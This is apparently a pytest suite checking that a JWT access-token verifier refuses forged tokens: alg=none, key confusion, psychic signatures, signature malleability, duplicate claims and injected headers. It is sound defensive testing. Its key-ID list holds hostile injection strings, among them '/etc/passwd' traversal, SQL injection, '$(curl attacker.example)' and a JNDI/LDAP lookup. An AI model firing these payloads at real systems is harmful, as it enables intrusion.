"""Attacks on access tokens, each refused with the same words and never with another error."""

from __future__ import annotations

import base64
import functools
import hashlib
import hmac
import itertools
import json
import math
import socket
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec, ed448, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import NameOID
from jwt.algorithms import OKPAlgorithm

from chalicelib.auth.credentials.derived_keys import DerivedKey
from tests.unit.auth.forging import (
    ADA,
    EVE,
    EXPIRED,
    INVALID,
    NOT_YET,
    NOW,
    Mint,
    as_part,
    base64url,
    decoded,
    good_claims,
    make_key,
    refusal,
    signed,
    verifier,
    without,
)

if TYPE_CHECKING:
    from collections.abc import Callable

    from chalicelib.auth.sessions.access_tokens import AccessTokens

# The order of the group of Ed25519.
L = 2**252 + 27742317777372353535851937790883648493
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def beginning(of: object) -> str:
    return repr(of)[:30]


def test_a_token_signed_by_hand_with_our_key_is_accepted(tokens: AccessTokens, ours: Mint) -> None:
    """The refusals below are then due to what each of them changes."""
    assert tokens.verify(ours.sign()) == ADA


# ------------------------------------------------------------------------------------ Algorithms


SPELLINGS_OF_NONE = ["".join(each) for each in itertools.product("nN", "oO", "nN", "eE")]


@pytest.mark.parametrize("alg", [*SPELLINGS_OF_NONE, " none", "none ", "none\0", "", "\uff4eone"])
def test_alg_none(tokens: AccessTokens, ours: Mint, alg: str) -> None:
    unsigned = f"{as_part(ours.good_header(alg=alg))}.{as_part(good_claims())}."
    assert refusal(tokens, unsigned) == INVALID
    assert refusal(tokens, unsigned.rstrip(".")) == INVALID
    assert refusal(tokens, ours.sign(alg=alg)) == INVALID


@pytest.mark.parametrize("alg", [None, [], ["EdDSA"], {"EdDSA": 1}, {}, 0, 1, True, False, 1.5])
def test_alg_of_another_type(tokens: AccessTokens, ours: Mint, alg: Any) -> None:
    assert refusal(tokens, ours.sign(alg=alg)) == INVALID


def test_alg_missing(tokens: AccessTokens, ours: Mint) -> None:
    assert refusal(tokens, ours.sign_with(without(ours.good_header(), "alg"))) == INVALID


@pytest.mark.parametrize(
    "alg",
    [
        "eddsa",
        "EDDSA",
        "EdDSA ",
        "EdDSA\0",
        "Ed25519",
        "Ed448",
        "ES256",
        "ES256K",
        "ES512",
        "RS256",
        "RS512",
        "PS256",
        "HS256",
        "A128KW",
        "dir",
        "EdDSA,none",
    ],
)
def test_another_alg_with_our_own_signature(tokens: AccessTokens, ours: Mint, alg: str) -> None:
    assert refusal(tokens, ours.sign(alg=alg)) == INVALID


def spellings_of_our_public_key(mint: Mint) -> dict[str, bytes]:
    public = mint.private.public_key()
    raw = public.public_bytes(Encoding.Raw, PublicFormat.Raw)
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    jwk = OKPAlgorithm.to_jwk(public, as_dict=True)
    published = {**jwk, "kid": mint.key.kid, "use": "sig", "alg": "EdDSA"}
    return {
        "raw": raw,
        "hex": raw.hex().encode(),
        "base64": base64.b64encode(raw),
        "base64url": base64.urlsafe_b64encode(raw),
        "x": base64url(raw).encode(),
        "PEM": pem,
        "PEM without its last newline": pem.rstrip(b"\n"),
        "PEM with CRLF": pem.replace(b"\n", b"\r\n"),
        "PEM without armour": b"".join(pem.splitlines()[1:-1]),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "OpenSSH": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "JWK": json.dumps(jwk).encode(),
        "JWK in few characters": json.dumps(jwk, separators=(",", ":")).encode(),
        "JWK as published": json.dumps(published).encode(),
        "JWKS": json.dumps({"keys": [published]}).encode(),
        "key id": mint.key.kid.encode(),
        "nothing": b"",
        "a zero": b"\0",
        "zeros": bytes(32),
    }


@pytest.mark.parametrize("alg", list(HASHES))
def test_our_public_key_as_the_secret_of_an_hmac(
    tokens: AccessTokens, ours: Mint, alg: str
) -> None:
    for spelling, secret in spellings_of_our_public_key(ours).items():
        for said in (alg, "EdDSA"):
            header = ours.good_header(alg=said)
            sign = functools.partial(hmac.digest, secret, digest=HASHES[alg])
            assert refusal(tokens, signed(sign, header, good_claims())) == INVALID, spelling


@pytest.mark.parametrize("alg", ["RS256", "PS256", "EdDSA"])
def test_a_strangers_rsa_key(tokens: AccessTokens, ours: Mint, alg: str) -> None:
    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pss = padding.PSS(padding.MGF1(SHA256()), padding.PSS.DIGEST_LENGTH)
    scheme: Any = pss if alg == "PS256" else padding.PKCS1v15()

    def sign(text: bytes) -> bytes:
        return private.sign(text, scheme, SHA256())

    assert refusal(tokens, signed(sign, ours.good_header(alg=alg), good_claims())) == INVALID


@pytest.mark.parametrize("alg", ["ES256", "EdDSA"])
def test_a_strangers_elliptic_curve_key(tokens: AccessTokens, ours: Mint, alg: str) -> None:
    private = ec.generate_private_key(ec.SECP256R1())

    def sign(text: bytes) -> bytes:
        numbers = decode_dss_signature(private.sign(text, ec.ECDSA(SHA256())))
        return b"".join(number.to_bytes(32, "big") for number in numbers)

    assert refusal(tokens, signed(sign, ours.good_header(alg=alg), good_claims())) == INVALID


def instead(signature: bytes, text: bytes) -> bytes:
    return signature


def test_psychic_signature(tokens: AccessTokens, ours: Mint) -> None:
    """Zeros were good for any text in Java (CVE-2022-21449)."""
    for alg in ("ES256", "EdDSA"):
        for signature in (bytes(64), b"\xff" * 64, b"\1" + bytes(63), bytes.fromhex("3006020100")):
            token = signed(
                functools.partial(instead, signature), ours.good_header(alg=alg), good_claims()
            )
            assert refusal(tokens, token) == INVALID


def test_a_strangers_key_with_our_key_id(tokens: AccessTokens, ours: Mint, stranger: Mint) -> None:
    assert refusal(tokens, stranger.sign(kid=ours.key.kid)) == INVALID


def test_a_strangers_key_with_its_own_key_id(tokens: AccessTokens, stranger: Mint) -> None:
    assert refusal(tokens, stranger.sign()) == INVALID


def test_an_ed448_key(tokens: AccessTokens, ours: Mint) -> None:
    private = ed448.Ed448PrivateKey.generate()
    assert refusal(tokens, signed(private.sign, ours.good_header(), good_claims())) == INVALID


def test_the_key_id_of_another_of_our_keys(ours: Mint) -> None:
    other = make_key("another-of-ours")
    tokens = verifier(ours.key, other)
    assert tokens.verify(Mint(other).sign()) == ADA
    assert refusal(tokens, ours.sign(kid=other.kid)) == INVALID


def test_a_token_of_a_retired_key_that_has_left_the_ring(ours: Mint) -> None:
    new = make_key("new")
    assert verifier(new, ours.key).verify(ours.sign()) == ADA
    assert refusal(verifier(new), ours.sign()) == INVALID
    assert refusal(verifier(new), ours.sign(kid="new")) == INVALID


# --------------------------------------------------------------------------------------- Headers


@pytest.mark.parametrize(
    "crit",
    [["x"], ["exp"], ["b64"], ["alg"], [], "exp", "", None, {}, {"x": 1}, 0, 1, True, [1], [["x"]]],
)
def test_unknown_crit(tokens: AccessTokens, ours: Mint, crit: Any) -> None:
    assert refusal(tokens, ours.sign(crit=crit, x=1)) == INVALID
    assert refusal(tokens, ours.sign_with(ours.good_header(crit=crit, b64=True))) == INVALID


@pytest.mark.parametrize(
    "typ",
    [
        "JWT",
        "jwt",
        "at+JWT",
        "AT+JWT",
        "application/at+jwt",
        "at+jwt ",
        "at jwt",
        "at+jwt\0",
        "",
        "JOSE",
        "refresh+jwt",
        None,
        [],
        ["at+jwt"],
        {},
        {"at+jwt": 1},
        0,
        1,
        True,
        1.5,
    ],
)
def test_another_typ(tokens: AccessTokens, ours: Mint, typ: Any) -> None:
    assert refusal(tokens, ours.sign(typ=typ)) == INVALID


def test_typ_missing(tokens: AccessTokens, ours: Mint) -> None:
    assert refusal(tokens, ours.sign_with(without(ours.good_header(), "typ"))) == INVALID


KEY_IDS: list[Any] = [
    "../../etc/passwd",
    "../../../../../../../../dev/null",
    "/proc/self/environ",
    "..\\..\\windows\\win.ini",
    "file:///dev/null",
    "https://attacker.example/key.pem",
    "' OR '1'='1",
    "x' UNION SELECT 'attacker-key'; --",
    "'; DROP TABLE keys; --",
    "the-first'--",
    "$(curl attacker.example)",
    "|/usr/bin/id",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/x}",
    "\0",
    "the-first\0",
    "\0the-first",
    "the-first\n",
    " the-first",
    "the-first ",
    "THE-FIRST",
    "the-\u2010first",
    "the-first\u200b",
    "\ud800",
    "",
    " ",
    "*",
    "None",
    "null",
    "0",
    "__class__",
    "constructor",
    "-----BEGIN PUBLIC KEY-----",
    "x" * 2500,
    None,
    [],
    ["the-first"],
    [None],
    {},
    {"kid": "the-first"},
    {"$ne": ""},
    0,
    1,
    -1,
    10**400,
    1.5,
    math.nan,
    math.inf,
    True,
    False,
]


@pytest.mark.parametrize("kid", KEY_IDS, ids=beginning)
def test_key_id_traversal_and_injection(
    tokens: AccessTokens, ours: Mint, stranger: Mint, kid: Any
) -> None:
    assert refusal(tokens, ours.sign(kid=kid)) == INVALID
    assert refusal(tokens, stranger.sign(kid=kid)) == INVALID
    empty = functools.partial(hmac.digest, b"", digest="sha256")
    header = ours.good_header(kid=kid, alg="HS256")
    assert refusal(tokens, signed(empty, header, good_claims())) == INVALID


def test_key_id_missing(tokens: AccessTokens, ours: Mint) -> None:
    assert refusal(tokens, ours.sign_with(without(ours.good_header(), "kid"))) == INVALID


def certificate(private: ed25519.Ed25519PrivateKey) -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "hirelane")])
    today = datetime.now(UTC)
    return (
        x509.CertificateBuilder(name, name, private.public_key(), 1)
        .not_valid_before(today - timedelta(days=1))
        .not_valid_after(today + timedelta(days=1))
        .sign(private, None)
        .public_bytes(Encoding.DER)
    )


def headers_with_a_key(mint: Mint) -> dict[str, dict[str, Any]]:
    jwk = {**OKPAlgorithm.to_jwk(mint.private.public_key(), as_dict=True), "kid": mint.key.kid}
    der = certificate(mint.private)
    return {
        "jwk": {"jwk": jwk},
        "jwk as text": {"jwk": json.dumps(jwk)},
        "jwks": {"jwks": {"keys": [jwk]}},
        "jku": {"jku": "http://127.0.0.1:9/jwks.json"},
        "jku of a name": {"jku": "https://hirelane.example@attacker.example/jwks.json"},
        "jku of a file": {"jku": "file:///tmp/jwks.json"},
        "jku as data": {"jku": "data:application/json," + json.dumps({"keys": [jwk]})},
        "x5u": {"x5u": "http://127.0.0.1:9/x.pem"},
        "x5c": {"x5c": [base64.b64encode(der).decode()]},
        "x5t": {"x5t": base64url(hashlib.sha1(der, usedforsecurity=False).digest())},
        "x5t#S256": {"x5t#S256": base64url(hashlib.sha256(der).digest())},
        "epk": {"epk": jwk},
    }


@pytest.mark.parametrize(
    "way", list(headers_with_a_key(Mint(make_key("for the names of the ways"))))
)
def test_a_header_that_brings_the_key(
    tokens: AccessTokens, ours: Mint, stranger: Mint, way: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[Any] = []
    monkeypatch.setattr(socket, "getaddrinfo", lambda *which, **_: asked.append(which))
    monkeypatch.setattr(socket.socket, "connect", lambda _, where: asked.append(where))
    brought = headers_with_a_key(stranger)[way]
    assert refusal(tokens, stranger.sign(**brought)) == INVALID
    assert refusal(tokens, stranger.sign(**brought, kid=ours.key.kid)) == INVALID
    assert refusal(tokens, stranger.sign_with(stranger.good_header(kid="") | brought)) == INVALID
    assert tokens.verify(ours.sign(**brought)) == ADA, "nobody reads it"
    assert asked == []


def test_an_unencoded_payload(tokens: AccessTokens, ours: Mint) -> None:
    """RFC 7797, with the signature that it asks for and with that of a usual token."""
    plain = json.dumps(good_claims()).encode()
    said: list[dict[str, Any]] = [{"crit": ["b64"]}, {}, {"crit": []}, {"crit": ["b64", "exp"]}]
    for crit in said:
        part = as_part(ours.good_header(b64=False, **crit))
        signature = base64url(ours.private.sign(part.encode() + b"." + plain))
        for payload in ("", base64url(plain), plain.decode()):
            assert refusal(tokens, f"{part}.{payload}.{signature}") == INVALID
        assert refusal(tokens, ours.sign(b64=False, **crit)) == INVALID


def test_detached_payload(tokens: AccessTokens, ours: Mint) -> None:
    header, _, signature = ours.sign().split(".")
    assert refusal(tokens, f"{header}..{signature}") == INVALID
    assert refusal(tokens, ours.sign(b"")) == INVALID


# ---------------------------------------------------------------------------------------- Claims


CLAIMS = ["iss", "aud", "sub", "role", "sid", "jti", "iat", "nbf", "exp"]
NO_TEXT: list[Any] = [
    None,
    [],
    ["x"],
    {},
    {"x": "x"},
    0,
    1,
    -1,
    10**300,
    1.5,
    math.nan,
    True,
    False,
]
NO_TIME: list[Any] = [
    None,
    [],
    [NOW],
    {},
    {"$gt": 0},
    "",
    "soon",
    str(NOW),
    "१८००००००००",
    "2027-01-15T08:00:00Z",
    NOW + 0.5,
    float(NOW),
    math.nan,
    math.inf,
    -math.inf,
    True,
    False,
]


@pytest.mark.parametrize("claim", CLAIMS)
def test_a_claim_missing(tokens: AccessTokens, ours: Mint, claim: str) -> None:
    assert refusal(tokens, ours.sign(without(good_claims(), claim))) == INVALID


@pytest.mark.parametrize("wrong", NO_TEXT, ids=beginning)
@pytest.mark.parametrize("claim", ["iss", "aud", "sub", "role", "sid", "jti"])
def test_a_claim_of_another_type(tokens: AccessTokens, ours: Mint, claim: str, wrong: Any) -> None:
    assert refusal(tokens, ours.sign(good_claims(**{claim: wrong}))) == INVALID


@pytest.mark.parametrize("wrong", NO_TEXT, ids=beginning)
def test_an_employer_of_another_type(tokens: AccessTokens, ours: Mint, wrong: Any) -> None:
    assert refusal(tokens, ours.sign(good_claims(employer=wrong))) == INVALID


@pytest.mark.parametrize("claim", ["iss", "sub", "role", "sid", "jti", "employer"])
def test_a_claim_in_a_list(tokens: AccessTokens, ours: Mint, claim: str) -> None:
    right = good_claims(employer="an-employer")[claim]
    assert refusal(tokens, ours.sign(good_claims(**{claim: [right]}))) == INVALID


@pytest.mark.parametrize("wrong", NO_TIME, ids=repr)
@pytest.mark.parametrize("claim", ["exp", "nbf", "iat"])
def test_a_time_of_another_type(tokens: AccessTokens, ours: Mint, claim: str, wrong: Any) -> None:
    assert refusal(tokens, ours.sign(good_claims(**{claim: wrong}))) == INVALID


def test_digits_of_another_script_as_a_number(tokens: AccessTokens, ours: Mint) -> None:
    text = json.dumps(good_claims()).replace(f'"exp": {NOW + 60}', '"exp": १८००००००६०')
    assert refusal(tokens, ours.sign(text.encode())) == INVALID


@pytest.mark.parametrize(
    "exp", [NOW, NOW - 1, NOW - 600, 0, -1, -(10**300), -(10**1000)], ids=beginning
)
def test_a_token_that_has_expired(tokens: AccessTokens, ours: Mint, exp: int) -> None:
    assert refusal(tokens, ours.sign(good_claims(exp=exp))) == EXPIRED


@pytest.mark.parametrize("nbf", [NOW + 6, NOW + 600, 10**300, 10**1000], ids=beginning)
def test_a_token_of_the_future(tokens: AccessTokens, ours: Mint, nbf: int) -> None:
    assert refusal(tokens, ours.sign(good_claims(nbf=nbf))) == NOT_YET


@pytest.mark.parametrize("exp", [2**31, 2**63, 2**64, 10**300, 10**1000], ids=beginning)
def test_a_token_that_lives_too_long(tokens: AccessTokens, ours: Mint, exp: int) -> None:
    assert refusal(tokens, ours.sign(good_claims(exp=exp))) == INVALID


def test_a_token_lives_ten_minutes_at_most(tokens: AccessTokens, ours: Mint) -> None:
    assert tokens.verify(ours.sign(good_claims(iat=NOW, exp=NOW + 600))) == ADA
    assert refusal(tokens, ours.sign(good_claims(iat=NOW, exp=NOW + 601))) == INVALID


@pytest.mark.parametrize(
    ("claim", "wrong"),
    [
        ("iss", "someone"),
        ("iss", "Hirelane"),
        ("iss", "hirelane "),
        ("iss", "hirelane\0"),
        ("iss", "hirelan"),
        ("iss", ""),
        ("aud", "someone"),
        ("aud", "hirelane"),
        ("aud", "hirelane-api "),
        ("aud", "HIRELANE-API"),
        ("aud", "hirelane-ap"),
        ("aud", ""),
        ("role", "root"),
        ("role", "Admin"),
        ("role", "ADMIN"),
        ("role", "admin "),
        ("role", "admin\0"),
        ("role", "candidate,admin"),
        ("role", ""),
    ],
)
def test_a_claim_of_someone_else(tokens: AccessTokens, ours: Mint, claim: str, wrong: str) -> None:
    assert refusal(tokens, ours.sign(good_claims(**{claim: wrong}))) == INVALID


@pytest.mark.parametrize(
    "aud",
    [["hirelane-api"], ["hirelane-api", "x"], ["x", "hirelane-api"], {"hirelane-api": 1}],
    ids=str,
)
def test_an_audience_that_holds_ours(tokens: AccessTokens, ours: Mint, aud: Any) -> None:
    assert refusal(tokens, ours.sign(good_claims(aud=aud))) == INVALID


@pytest.mark.parametrize(
    "members",
    [
        b'"role": "admin"',
        b'"sub": "someone"',
        b'"exp": 9999999999',
        b'"role": "admin", "role": "candidate"',
    ],
)
def test_claims_said_twice(tokens: AccessTokens, ours: Mint, members: bytes) -> None:
    """Put before or behind those that are signed."""
    header, payload, signature = ours.sign().split(".")
    plain = decoded(payload)
    for changed in (b"{" + members + b", " + plain[1:], plain[:-1] + b", " + members + b"}"):
        assert json.loads(changed)
        assert refusal(tokens, f"{header}.{as_part(changed)}.{signature}") == INVALID


@pytest.mark.parametrize(
    ("last", "detail"),
    [
        (b'"exp": 1', EXPIRED),
        (b'"nbf": 9999999999', NOT_YET),
        (b'"iss": "x"', INVALID),
        (b'"aud": ["hirelane-api"]', INVALID),
        (b'"role": "root"', INVALID),
    ],
)
def test_of_claims_said_twice_the_last_is_weighed(
    tokens: AccessTokens, ours: Mint, last: bytes, detail: str
) -> None:
    plain = json.dumps(good_claims()).encode()
    assert refusal(tokens, ours.sign(plain[:-1] + b", " + last + b"}")) == detail


def test_headers_said_twice(tokens: AccessTokens, ours: Mint, stranger: Mint) -> None:
    plain = json.dumps(ours.good_header()).encode()
    for members in (b'"alg": "none"', b'"kid": "of-a-stranger"', b'"typ": "JWT"', b'"crit": []'):
        assert refusal(tokens, ours.sign_with(plain[:-1] + b", " + members + b"}")) == INVALID
        assert refusal(tokens, stranger.sign_with(b"{" + members + b", " + plain[1:])) == INVALID


@pytest.mark.parametrize(
    "payload",
    [
        b"",
        b"null",
        b"[]",
        b"1",
        b'"x"',
        b"true",
        b"NaN",
        b"{",
        b"{}",
        b"{}{}",
        b"\xff\xfe",
        b"\0",
        b"[{}]",
        b"{'a': 1}",
        b'{"a": 1,}',
        b'{"a": 1} // x',
        b'{"exp": 1e999}',
        b"\xef\xbb\xbf",
    ],
)
def test_a_payload_or_header_of_no_claims(tokens: AccessTokens, ours: Mint, payload: bytes) -> None:
    assert refusal(tokens, ours.sign(payload)) == INVALID
    assert refusal(tokens, ours.sign_with(payload)) == INVALID


# --------------------------------------------------------------------------------------- Nesting


NESTED = {
    "lists": lambda deep: b"[" * deep + b"]" * deep,
    "objects": lambda deep: b'{"a":' * (deep // 3) + b"1" + b"}" * (deep // 3),
    "lists without an end": lambda deep: b"[" * deep * 2,
    "objects without an end": lambda deep: b'{"a":' * (deep * 2 // 5),
}


@pytest.mark.parametrize("kind", list(NESTED))
@pytest.mark.parametrize("deep", [600, 1200, 100_000])
def test_deep_nesting(tokens: AccessTokens, ours: Mint, kind: str, deep: int) -> None:
    """The first two are short enough to be read, the last is not."""
    nested = NESTED[kind](deep)
    short_enough = deep < 100_000
    in_header = json.dumps(ours.good_header()).encode()[:-1] + b', "kid": ' + nested + b"}"
    in_claims = json.dumps(good_claims()).encode()[:-1] + b', "sub": ' + nested + b"}"
    forged = [
        ours.sign(nested),
        ours.sign_with(nested),
        ours.sign_with(nested, b""),
        ours.sign_with(in_header, b""),
        f"{as_part(nested)}..",
    ]
    for token in forged:
        assert (len(token) <= 4096) == short_enough
        assert refusal(tokens, token) == INVALID
    assert refusal(tokens, ours.sign(in_claims)) == INVALID


# ---------------------------------------------------------------------------------------- Shapes


def test_a_refresh_token(tokens: AccessTokens) -> None:
    key = DerivedKey("the secret of purposes", "refresh token")
    text = f"{ADA.session_id}.1"
    assert refusal(tokens, f"{text}.{key.sign(text + 'salt')}") == INVALID
    assert refusal(tokens, key.token(text)) == INVALID


@pytest.mark.parametrize(
    "junk",
    [
        "",
        ".",
        "..",
        "...",
        "....",
        "x",
        "a.b",
        "a.b.c",
        "a.b.c.d.e",
        "null.null.null",
        "bnVsbA.bnVsbA.bnVsbA",
        "e30.e30.e30",
        "e30.e30.",
        "W10.W10.W10",
        "é.é.é",
        "\uff45\uff13\uff10.\uff45\uff13\uff10.\uff45\uff13\uff10",
        "\0",
        "\0.\0.\0",
        "\ud800",
        "\ud800.\ud800.\ud800",
        "🔑.🔑.🔑",
        "%00.%00.%00",
        "=.=.=",
        "==.==.==",
        "undefined",
        "A" * 4096,
        "A" * 4097,
        "A" * 1_000_000,
        "." * 4096,
        "🔑" * 4096,
    ],
    ids=beginning,
)
def test_junk(tokens: AccessTokens, junk: str) -> None:
    assert refusal(tokens, junk) == INVALID


@pytest.mark.parametrize(
    "space", [" ", "\t", "\n", "\r\n", "\0", "\x0b", "\x1f", "\x85", "\xa0", "\u2003", "\ufeff"]
)
def test_white_space(tokens: AccessTokens, ours: Mint, space: str) -> None:
    token = ours.sign()
    places = [0, 1, token.index("."), token.index(".") + 1, token.rindex("."), len(token)]
    for at in [*places, len(token) - 1]:
        assert refusal(tokens, token[:at] + space + token[at:]) == INVALID


@pytest.mark.parametrize("padding", ["=", "==", "===", "====", "%3D", "%3D%3D"])
def test_padding(tokens: AccessTokens, ours: Mint, padding: str) -> None:
    parts = ours.sign().split(".")
    for which in range(3):
        padded = [part + padding * (at == which) for at, part in enumerate(parts)]
        assert refusal(tokens, ".".join(padded)) == INVALID
    assert refusal(tokens, padding + ".".join(parts)) == INVALID


def test_padding_that_is_right(tokens: AccessTokens, ours: Mint) -> None:
    padded = [part + "=" * (-len(part) % 4) for part in ours.sign().split(".")]
    assert refusal(tokens, ".".join(padded)) == INVALID
    text = ".".join(padded[:2])
    signature = base64url(ours.private.sign(text.encode()))
    assert text.count("=") > 0
    assert refusal(tokens, f"{text}.{signature}") == INVALID


def test_another_alphabet_of_base64(tokens: AccessTokens, ours: Mint) -> None:
    """Each signature has "-" or "_" sooner or later."""
    for number in range(1000):
        token = ours.sign(good_claims(jti=str(number)))
        other = token.replace("-", "+").replace("_", "/")
        if other != token:
            assert refusal(tokens, other) == INVALID
            return
    raise AssertionError


def test_bits_of_base64_that_count_for_nothing(tokens: AccessTokens, ours: Mint) -> None:
    parts = ours.sign().split(".")
    alike = 0
    for which, part in enumerate(parts):
        for last in ALPHABET:
            changed = part[:-1] + last
            if changed == part or decoded(changed) != decoded(part):
                continue
            alike += 1
            token = ".".join([*parts[:which], changed, *parts[which + 1 :]])
            assert refusal(tokens, token) == INVALID
    assert alike >= 15


@pytest.mark.parametrize(
    "other", ["\u0410", "\uff21", "\uff41", "\u0430", "\uff11", "\u0967", "\u0130"]
)
def test_letters_that_look_alike(tokens: AccessTokens, ours: Mint, other: str) -> None:
    token = ours.sign()
    for at in (0, 5, token.index(".") + 3, len(token) - 1):
        assert refusal(tokens, token[:at] + other + token[at + 1 :]) == INVALID


def test_more_or_fewer_dots(tokens: AccessTokens, ours: Mint) -> None:
    token = ours.sign()
    header, payload, signature = token.split(".")
    for changed in (
        f".{token}",
        f"{token}.",
        f"{token}..",
        f"{header}..{payload}.{signature}",
        f"{header}.{payload}..{signature}",
        f"{header}.{payload}",
        f"{header}.{signature}",
        f"{payload}.{header}.{signature}",
        f"{signature}.{payload}.{header}",
        f"{header}{payload}{signature}",
        f"{token}.{signature}",
        f"{header}.{token}",
        f"{token}.{token}",
        f"{token},{token}",
        token.replace(".", "。"),
        token.replace(".", "%2E"),
    ):
        assert refusal(tokens, changed) == INVALID


def test_the_json_form_of_a_signature(tokens: AccessTokens, ours: Mint) -> None:
    header, payload, signature = ours.sign().split(".")
    flat = {"protected": header, "payload": payload, "signature": signature}
    assert refusal(tokens, json.dumps(flat)) == INVALID


@pytest.mark.parametrize("alg", ["dir", "RSA-OAEP", "PBES2-HS256+A128KW"])
def test_an_encrypted_token(tokens: AccessTokens, ours: Mint, alg: str) -> None:
    header = as_part(ours.good_header(alg=alg, enc="A256GCM", p2c=2**31, zip="DEF"))
    assert refusal(tokens, f"{header}.a2V5.aXY.dGV4dA.dGFn") == INVALID
    assert refusal(tokens, f"{header}..aXY.dGV4dA.dGFn") == INVALID
    nested = base64url(ours.sign().encode())
    assert refusal(tokens, f"{header}.a2V5.aXY.{nested}.dGFn") == INVALID


def test_a_token_within_a_token(tokens: AccessTokens, ours: Mint, stranger: Mint) -> None:
    inner = ours.sign().encode()
    assert refusal(tokens, stranger.sign(inner, cty="JWT")) == INVALID
    assert refusal(tokens, ours.sign(inner, cty="JWT")) == INVALID


# ------------------------------------------------------------------------------------ Signatures


def test_another_payload_under_our_signature(tokens: AccessTokens, ours: Mint) -> None:
    header, _, signature = ours.sign().split(".")
    for claims in (
        good_claims(role="admin"),
        good_claims(sub=EVE.account_id),
        good_claims(exp=NOW + 10**6),
        good_claims(employer="x"),
    ):
        assert refusal(tokens, f"{header}.{as_part(claims)}.{signature}") == INVALID


def test_the_same_claims_in_another_order(tokens: AccessTokens, ours: Mint) -> None:
    header, _, signature = ours.sign().split(".")
    turned = dict(reversed(good_claims().items()))
    assert turned == good_claims()
    assert refusal(tokens, f"{header}.{as_part(turned)}.{signature}") == INVALID


def resigned(token: str, change: Callable[[bytes], bytes]) -> str:
    text, _, signature = token.rpartition(".")
    return f"{text}.{base64url(change(decoded(signature)))}"


@pytest.mark.parametrize("times", range(1, 16))
def test_a_signature_whose_number_is_not_reduced(
    tokens: AccessTokens, ours: Mint, times: int
) -> None:
    """S + L is the same number modulo L: such a signature is another for the same text."""

    def add(signature: bytes) -> bytes:
        number = int.from_bytes(signature[32:], "little") + times * L
        return signature[:32] + (number % 2**256).to_bytes(32, "little")

    token = ours.sign()
    assert refusal(tokens, resigned(token, add)) == INVALID


def test_a_signature_with_its_number_negated(tokens: AccessTokens, ours: Mint) -> None:
    def negate(signature: bytes) -> bytes:
        number = -int.from_bytes(signature[32:], "little") % L
        return signature[:31] + bytes([signature[31] ^ 0x80]) + number.to_bytes(32, "little")

    assert refusal(tokens, resigned(ours.sign(), negate)) == INVALID


def test_each_bit_of_a_signature_counts(tokens: AccessTokens, ours: Mint) -> None:
    text, _, signature = ours.sign().rpartition(".")
    number = int.from_bytes(decoded(signature), "big")
    for bit in range(512):
        flipped = (number ^ (1 << bit)).to_bytes(64, "big")
        assert refusal(tokens, f"{text}.{base64url(flipped)}") == INVALID


def test_a_truncated_signature(tokens: AccessTokens, ours: Mint) -> None:
    text, _, signature = ours.sign().rpartition(".")
    whole = decoded(signature)
    for length in range(64):
        assert refusal(tokens, f"{text}.{base64url(whole[:length])}") == INVALID
        assert refusal(tokens, f"{text}.{base64url(whole[64 - length :])}") == INVALID


def test_an_extended_signature(tokens: AccessTokens, ours: Mint) -> None:
    text, _, signature = ours.sign().rpartition(".")
    whole = decoded(signature)
    for more in (b"\0", b"\1", bytes(32), bytes(64), whole):
        assert refusal(tokens, f"{text}.{base64url(whole + more)}") == INVALID
        assert refusal(tokens, f"{text}.{base64url(more + whole)}") == INVALID


def test_the_signature_of_another_token(tokens: AccessTokens, ours: Mint) -> None:
    adas = ours.sign().split(".")
    eves = ours.sign(good_claims(sub=EVE.account_id, role="admin", sid=EVE.session_id)).split(".")
    assert tokens.verify(".".join(eves)) == EVE
    for which in range(1, 3):
        mixed = [*adas[:which], eves[which], *adas[which + 1 :]]
        assert refusal(tokens, ".".join(mixed)) == INVALID
